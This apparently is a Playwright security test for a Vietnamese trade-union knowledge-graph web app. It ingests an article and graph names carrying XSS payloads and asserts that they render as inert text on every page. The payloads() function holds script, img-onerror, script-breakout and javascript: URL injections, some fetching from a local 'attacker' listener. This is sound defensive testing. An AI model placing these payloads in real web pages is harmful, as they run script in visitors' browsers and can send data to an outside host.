"""No XSS: an article full of markup, ingested, renders inert on every page in a real browser.

The article's title, quoted directive titles, names and URL carry <script>, </script>, <img
onerror> and javascript: payloads aimed at an "attacker" listener on 127.0.0.1. The extractor
keeps markup out of organisation and person names, so a second graph gives an organisation and
a person such names directly, linked into the hierarchy. Headless chromium visits every page
type; it must see no dialog, no request to the attacker, no javascript: link and no CSP
violation (which would mean markup reached the DOM and was only stopped by the policy).
"""
from __future__ import annotations

import json
import time
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import quote

import pytest
from rdflib import Literal, URIRef

from connection_counter import ConnectionCounter

ROOT = Path(__file__).resolve().parents[2]
EXAMPLES = ROOT / "examples" / "corpus"
CHROMIUM = Path("/usr/bin/chromium")
ID = "https://w3id.org/unionkg/id/"

sync_api = pytest.importorskip("playwright.sync_api")
pytestmark = [
    pytest.mark.skipif(not CHROMIUM.exists(), reason="/usr/bin/chromium is not installed"),
    pytest.mark.skipif(not (ROOT / "webui" / "node_modules" / "cytoscape").is_dir(),
                       reason="webui/node_modules is not installed (npm ci)"),
]


def payloads(host: str) -> dict[str, str]:
    """The hostile strings, each aimed at the attacker."""
    return {"script": f"<script>alert(1);fetch('http://{host}/s')</script>",
            "img": f"<img src=http://{host}/i.png onerror=alert(2)>",
            "close": f"</script><script src=http://{host}/x.js></script>",
            "js": f"javascript:alert(3)//{host}",
            "link": "<a href=javascript:alert(4)>bấm</a>"}


def hostile_article(host: str) -> str:
    """One JSONL record: an article whose every text field carries the payloads."""
    p = payloads(host)
    text = (f"Chiều 14/3/2022, Liên đoàn Lao động tỉnh Nghệ An tổ chức hội nghị quán triệt Nghị quyết số "
            f"02-NQ/TW ngày 12/6/2021 của Bộ Chính trị về \"đổi mới {p['script']} tổ chức {p['close']} và "
            f"{p['img']} hoạt động công đoàn\" cho cán bộ chủ chốt.\n\nDự hội nghị có đồng chí Kim Văn Hạnh, "
            f"Chủ tịch Công đoàn Công ty {p['img']} Sông Lam. Công đoàn Khu kinh tế Đông Nam trực thuộc Liên "
            f"đoàn Lao động tỉnh Nghệ An cần thực hiện Kế hoạch số 15/KH-TLĐ về \"{p['js']} {p['link']}\".\n")
    return json.dumps({"url": p["js"], "title": f"Hội nghị {p['script']} {p['img']} {p['link']}",
                       "text": text, "published": "2022-03-15"}, ensure_ascii=False)


def hostile_names(host: str) -> list[tuple]:
    """An organisation and a person named with the payloads, in the hierarchy and in a post."""
    from unionkg.ontology.namespaces import FOAF, ORG, RDF, SKOS, UK
    p = payloads(host)
    org, person = URIRef(ID + "org/xss-union"), URIRef(ID + "person/xss-person")
    parent = URIRef(ID + "org/lien-doan-lao-dong-tinh-nghe-an")
    name = f"Công đoàn {p['script']} {p['img']} {p['close']} {p['js']}"
    return [(org, RDF.type, ORG.Organization), (org, RDF.type, UK.TradeUnion),
            (org, SKOS.prefLabel, Literal(name, lang="vi")), (org, UK.nameKey, Literal("cong doan xss script")),
            (org, ORG.subOrganizationOf, parent),
            (person, RDF.type, FOAF.Person), (person, SKOS.prefLabel, Literal(f"Nguyễn {p['img']}", lang="vi")),
            (person, UK.nameKey, Literal("nguyen xss img"))]


@pytest.fixture(scope="module")
def attacker() -> Iterator[ConnectionCounter]:
    listener = ConnectionCounter()
    yield listener
    listener.close()


@pytest.fixture(scope="module")
def xss_server(attacker: ConnectionCounter, live_server_of, tmp_path_factory) -> Iterator[str]:
    from unionkg.loaders.pipeline import ingest
    from unionkg.store import EmbeddedStore
    from unionkg.webui import create_app
    record = tmp_path_factory.mktemp("xss") / "hostile.jsonl"
    record.write_text(hostile_article(attacker.host) + "\n", encoding="utf-8")
    with EmbeddedStore(None) as store:
        report = ingest([*sorted(str(p) for p in EXAMPLES.iterdir()), str(record)], store)
        assert not report.errors, report.errors
        store.replace_graph(URIRef("https://w3id.org/unionkg/graph/xss-test"), hostile_names(attacker.host))
        with live_server_of(create_app(store, {"TESTING": True})) as url:
            yield url


def entity_paths(base: str) -> list[str]:
    """One page of each kind that shows the hostile text."""
    import urllib.request
    query = ("SELECT DISTINCT ?e WHERE { ?e ?p ?o FILTER(isIRI(?e) && STRSTARTS(STR(?e), \"" + ID + "\") "
             "&& !CONTAINS(STR(?e), \"/mention/\") && CONTAINS(STR(?o), \"<\")) }")
    with urllib.request.urlopen(f"{base}/sparql?query={quote(query)}", timeout=30) as response:
        rows = json.load(response)["results"]["bindings"]
    paths = sorted("/id/" + row["e"]["value"][len(ID):] for row in rows)
    kinds = {path.split("/")[2] for path in paths}
    assert {"org", "person", "directive", "article"} <= kinds, paths
    events = [p for p in paths if p.startswith("/id/event/")]
    return paths + events


PAGES = ["/", "/search?q=script", "/search?q=cong+doan+xss", "/orgchart?root=" + quote(ID + "org/xss-union", safe=""),
         "/orgchart?root=" + quote(ID + "org/lien-doan-lao-dong-tinh-nghe-an", safe=""),
         "/trace/nq-2-tw", "/trace/kh-15-tld", "/graph?iri=" + quote(ID + "org/xss-union", safe=""),
         "/graph?iri=" + quote(ID + "directive/nq-2-tw", safe=""), "/queries/search?q=xss&run=1",
         "/queries/directive_trace?directive=02-NQ%2FTW&run=1", "/queries/directive?directive=15%2FKH-TLD&run=1"]


def test_every_page_renders_the_payloads_inert(browser, xss_server: str, attacker: ConnectionCounter) -> None:
    context = browser.new_context()
    page = context.new_page()
    seen: dict[str, list[str]] = {"dialogs": [], "requests": [], "csp": []}
    page.on("dialog", lambda dialog: (seen["dialogs"].append(dialog.message), dialog.dismiss()))
    page.on("request", lambda request: seen["requests"].append(request.url) if attacker.host in request.url else None)
    page.on("console", lambda message: seen["csp"].append(message.text)
            if "Content Security Policy" in message.text else None)
    page.set_default_timeout(15_000)
    visited = []
    for path in PAGES + entity_paths(xss_server):
        page.goto(xss_server + path)
        page.wait_for_load_state("networkidle")
        visited.append(path)
        assert page.locator("a[href^='javascript:' i], [src^='javascript:' i]").count() == 0, path
        assert page.locator(f"script[src*='{attacker.host}'], img[src*='{attacker.host}']").count() == 0, path
    run_editor_query(page, xss_server)
    type_in_search_box(page, xss_server)
    context.close()
    time.sleep(0.5)
    assert len(visited) >= len(PAGES) + 4
    assert seen == {"dialogs": [], "requests": [], "csp": []}
    assert attacker.connections == 0


def run_editor_query(page, base: str) -> None:
    """The SPARQL editor's results table over rows full of payloads."""
    page.goto(f"{base}/sparql")
    page.wait_for_selector(".CodeMirror")
    page.evaluate("""() => window.unionkgEditor.setValue(
        'SELECT ?s ?o WHERE { ?s ?p ?o FILTER(isLiteral(?o) && CONTAINS(STR(?o), \"<\")) } LIMIT 50')""")
    page.click("#run-table")
    page.wait_for_selector("#results-table tbody tr")
    cells = " ".join(page.locator("#results-table tbody td").all_text_contents())
    assert "<script>alert(1)" in cells  # shown as text, not run


def type_in_search_box(page, base: str) -> None:
    """Autocomplete suggestions with hostile names."""
    page.goto(base + "/")
    page.fill("#search-box", "cong doan xss")
    page.wait_for_selector("#search-suggestions li a")
    assert "<script>" in page.locator("#search-suggestions").text_content()
    page.hover("#search-suggestions li a")
